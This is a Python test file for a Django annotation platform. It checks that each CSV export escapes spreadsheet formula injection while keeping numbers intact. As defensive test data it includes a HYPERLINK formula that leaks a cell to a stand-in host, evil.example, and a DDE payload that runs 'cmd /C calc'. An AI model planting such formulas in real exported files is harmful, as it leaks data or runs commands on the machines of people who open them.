"""CSV (formula) injection: every CSV download neutralises cells a spreadsheet would evaluate.

A manager opens the downloads in a spreadsheet; an item id, label or username written by
someone else must never run there as a formula. One hostile item id goes through each
download (annotations, their history, the curated file, the API export, pairwise scores and
judgements, traces) and must come out with a leading single quote, while numbers (negative
scores included) stay numbers.
"""

from __future__ import annotations

import csv
import io
import uuid

import numpy as np
import pytest
from django.http import HttpResponseBase

from apps.annotations.selectors import assignment_next
from apps.annotations.services import annotations_submit
from apps.continuous.services import trace_finish
from core.csv_files import FORMULA_PREFIXES, csv_chunks, neutralise
from tests.apps.continuous.conftest import AUDIO_SECONDS, make_trace_study
from tests.apps.preferences.conftest import answer_all, make_pairwise_study

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'


def rows_of(response: HttpResponseBase) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def assert_safe(rows: list[list[str]]) -> None:
    """The hostile cell is quoted, and no cell would start a formula (numbers aside)."""
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert all(neutralise(cell) == cell for cell in cells), [
        cell for cell in cells if cell.startswith(FORMULA_PREFIXES)
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1.25e-05", "-1.25e-05"),
        ("-inf", "'-inf"),
        ("a=b", "a=b"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_the_rule(value, expected):
    assert neutralise(value) == expected


def test_the_writer_quotes_cells_and_keeps_numbers():
    text = "".join(csv_chunks([["item", "score"], [EVIL, "-0.5"], ["@x", -1.5]]))
    assert list(csv.reader(io.StringIO(text))) == [
        ["item", "score"],
        ["'" + EVIL, "-0.5"],
        ["'@x", "-1.5"],
    ]


def test_annotation_downloads(client, study_setup):
    study, annotators = study_setup
    study.items.filter(pk=study.items.order_by("position").first().pk).update(external_id=EVIL)
    for user in annotators:
        annotations_submit(
            annotator=user,
            assignment=assignment_next(annotator=user, study=study),
            answers={study.questions.get(): {"label": "negative"}},
            idempotency_key=uuid.uuid4(),
        )
    client.force_login(study.created_by)
    base = f"/studies/{study.pk}/export/"
    for url in (f"{base}annotations.csv", f"{base}annotations.csv?history=1", f"{base}curated.csv"):
        assert_safe(rows_of(client.get(url)))
    assert_safe(rows_of(client.get(f"/api/studies/{study.pk}/export/?format=csv")))


def test_pairwise_scores_and_judgements(client, db):
    setup = make_pairwise_study(settings={"calibration_triplets": 0, "audit_rate": 0.0})
    setup.items[0].external_id = EVIL
    setup.items[0].save(update_fields=["external_id"])
    levels = {item.pk: n for n, item in enumerate(setup.items)}
    answer_all(setup.question, setup.annotators[0], lambda a, b: (levels[a] > levels[b]) * 2 - 1)
    client.force_login(setup.manager)
    base = f"/studies/{setup.study.pk}/preferences/{setup.question.key}/"
    scores = rows_of(client.get(f"{base}scores.csv"))
    assert_safe(scores)
    assert any(row[3].startswith("-") for row in scores[1:])  # negative strengths stay numbers
    assert_safe(rows_of(client.get(f"{base}judgements.csv")))


def test_traces(client):
    ts = make_trace_study(settings={"scale_min": -1.0, "scale_max": 1.0})
    ts.audio_item.external_id = EVIL
    ts.audio_item.save(update_fields=["external_id"])
    annotator, rec = ts.annotators[0], uuid.uuid4()
    times = np.round(np.arange(0, AUDIO_SECONDS + 0.05, 0.1), 6)
    for sequence, start in enumerate(range(0, times.size, 50)):
        part = times[start : start + 50]
        ts.send(annotator, ts.audio_item, rec, sequence, part, np.linspace(-0.5, 0.5, part.size))
    trace_finish(annotator=annotator, recording_uuid=rec)
    client.force_login(ts.study.created_by)
    response = client.get(
        f"/api/studies/{ts.study.pk}/traces/export/", {"question": ts.question.key, "format": "csv"}
    )
    rows = rows_of(response)
    assert_safe(rows)
    assert any(row[5].startswith("-") for row in rows[1:])  # negative samples stay numbers
